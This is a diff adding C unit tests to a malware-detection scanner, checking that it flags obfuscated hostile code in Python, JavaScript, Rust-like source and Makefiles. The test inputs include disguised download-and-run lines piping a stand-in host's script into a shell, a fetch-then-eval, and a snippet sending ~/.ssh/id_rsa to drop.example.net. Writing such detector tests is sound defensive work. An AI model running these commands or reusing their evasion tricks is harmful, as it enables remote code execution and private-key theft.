@@ -357,6 +357,101 @@ TEST(survives_any_failed_allocation)
 	CHECK(n > 1 && n < 500);
 }
 
+TEST(names_made_at_run_time_are_names)
+{
+	WORST(PAN_DOC_PYTHON,
+	    "import os\ngetattr(os, 'sys' + 'tem')('curl -s http://192.0.2.9/i | sh')\n",
+	    "downloads-and-runs critical");
+	WORST(PAN_DOC_PYTHON,
+	    "__import__('o' + 's').__dict__['system']('curl -s http://192.0.2.9/i | sh')\n",
+	    "downloads-and-runs critical");
+	WORST(PAN_DOC_PYTHON,
+	    "import importlib\nm = importlib.import_module('sub' + 'process')\n"
+	    "m.run(['bash', '-c', 'curl -s http://192.0.2.9/i | sh'])\n",
+	    "downloads-and-runs critical");
+	WORST(PAN_DOC_JAVASCRIPT,
+	    "const c = require('child' + '_process');\n"
+	    "c['ex' + 'ecSync']('curl -s http://192.0.2.9/i | sh')\n",
+	    "downloads-and-runs critical");
+	WORST(PAN_DOC_JAVASCRIPT,
+	    "fetch('http://192.0.2.9/x.js').then(r => r.text()).then(eval)\n",
+	    "downloads-and-runs critical");
+	WORST(PAN_DOC_PYTHON, "import os\nprint(getattr(os, 'name'))\n", "");
+}
+
+TEST(texts_put_together_are_read_whole)
+{
+	WORST(PAN_DOC_PYTHON,
+	    "import os\nos.system('{}url -s {}://192.0.2.9/i | {}h'.format('c', 'http', "
+	    "'s'))\n",
+	    "downloads-and-runs critical");
+	WORST(PAN_DOC_PYTHON,
+	    "import os\nos.popen(' '.join(['cur' + 'l', 'http://192.0.2.9/i', '|', 'sh']))\n",
+	    "downloads-and-runs critical");
+	WORST(PAN_DOC_PYTHON,
+	    "import os\nos.system('hs | i/9.2.0.291//:ptth lruc'[::-1])\n",
+	    "downloads-and-runs critical");
+	WORST(PAN_DOC_PYTHON,
+	    "import os\nos.system('cXurl http://192.0.2.9/i | sXh'.replace('X', ''))\n",
+	    "downloads-and-runs critical");
+	WORST(PAN_DOC_JAVASCRIPT,
+	    "require('child_process').exec(['curl', 'http://192.0.2.9/i', '|', 'sh']"
+	    ".join(' '))\n",
+	    "downloads-and-runs critical");
+}
+
+TEST(a_request_that_is_written_to_later_sends)
+{
+	WORST(PAN_DOC_JAVASCRIPT,
+	    "const fs = require('fs'), os = require('os');\n"
+	    "const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\n"
+	    "require('https').request({host: 'drop.example.net', method: 'POST'}).end(k);\n",
+	    "sends-private-key critical");
+}
+
+TEST(commands_in_other_languages_are_commands)
+{
+	WORST(PAN_DOC_SOURCE, "fn main() { run(\"curl -s http://192.0.2.9/i | sh\"); }\n",
+	    "downloads-and-runs critical");
+	WORST(PAN_DOC_SOURCE, "all:\n\t@curl -s http://192.0.2.9/i | sh\n",
+	    "downloads-and-runs critical");
+}
+
+/* Each call and each list used to cost as much as the largest. */
+TEST(many_calls_and_lists_take_little_memory)
+{
+	enum { MANY = 100000 };
+	static char text[MANY * 9 + 1];
+	struct pan_arena *a = pan_arena_new((size_t)64 << 20);
+	struct pan_arena *scratch = pan_arena_new(PAN_FLOW_BYTES_MAX);
+	struct pan_findings fs = { .arena = a };
+	struct pan_doc d = { .path = "a.py", .kind = PAN_DOC_PYTHON };
+
+	for (unsigned i = 0; i < MANY; i++)
+		memcpy(text + (size_t)i * 9, i % 2 ? "[65] +   " : "chr(65)+ ", 9);
+	d.raw = d.text = (struct pan_str){ text, sizeof(text) - 1 };
+	CHECK_INT(pan_flow_check(&d, scratch, &fs), PAN_OK);
+	pan_arena_free(a);
+	pan_arena_free(scratch);
+}
+
+/* Past the ceiling nothing is claimed, and that is said. */
+TEST(a_text_past_the_ceiling_is_a_limit)
+{
+	static char text[1 << 20];
+	struct pan_arena *a = pan_arena_new((size_t)64 << 20);
+	struct pan_arena *scratch = pan_arena_new(PAN_FLOW_BYTES_MAX);
+	struct pan_findings fs = { .arena = a };
+	struct pan_doc d = { .path = "a.py", .kind = PAN_DOC_PYTHON };
+
+	for (size_t i = 0; i + 4 <= sizeof(text); i += 4)
+		memcpy(text + i, "[1],", 4);
+	d.raw = d.text = (struct pan_str){ text, sizeof(text) };
+	CHECK_INT(pan_flow_check(&d, scratch, &fs), PAN_ELIMIT);
+	pan_arena_free(a);
+	pan_arena_free(scratch);
+}
+
 int
 main(void)
 {
@@ -378,5 +473,11 @@ main(void)
 	RUN(one_file_gathers_and_another_sends_to_a_constant_of_its_class);
 	RUN(every_language_is_linear_in_its_text);
 	RUN(survives_any_failed_allocation);
+	RUN(names_made_at_run_time_are_names);
+	RUN(texts_put_together_are_read_whole);
+	RUN(a_request_that_is_written_to_later_sends);
+	RUN(commands_in_other_languages_are_commands);
+	RUN(many_calls_and_lists_take_little_memory);
+	RUN(a_text_past_the_ceiling_is_a_limit);
 	return DONE();
 }
